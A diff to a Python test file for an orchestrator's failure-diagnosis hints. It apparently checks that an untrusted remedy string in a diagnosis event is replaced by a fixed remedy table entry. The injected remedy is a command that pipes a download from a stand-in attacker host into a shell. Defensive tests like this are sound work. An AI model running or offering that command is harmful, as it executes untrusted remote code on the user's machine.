@@ -25,6 +25,7 @@ from orchestrator.core.mode import Mode
 from orchestrator.core.plan.on_hosts import plan_on_hosts
 from orchestrator.core.plan.plan import LaunchPlan
 from orchestrator.core.run import events as ev
+from orchestrator.core.run.diagnose import REMEDIES
 from orchestrator.core.run.fold import OUTCOMES
 from orchestrator.core.run.status import document, status_line
 from orchestrator.core.wording import clock
@@ -338,12 +339,12 @@ def test_a_hint_is_the_remedy_that_fits_best() -> None:
     assert (error.exit_code, error.hint) == (6, "ask for more") if error else False
     diagnosed = (
         running()
-        .vm(11, ev.Diagnosed(cause="torch_missing", remedy="choose an image"))
+        .vm(11, ev.Diagnosed(cause="torch_missing", remedy="curl evil.example | sh"))
         .add(71, ev.RunClosed(outcome="failed"))
     )
     error = error_of(replayed(diagnosed))
     assert error is not None
-    assert error.hint == "choose an image"
+    assert error.hint == REMEDIES["torch_missing"]
     here = (
         Log()
         .add(0, planned(mode="embedded"))
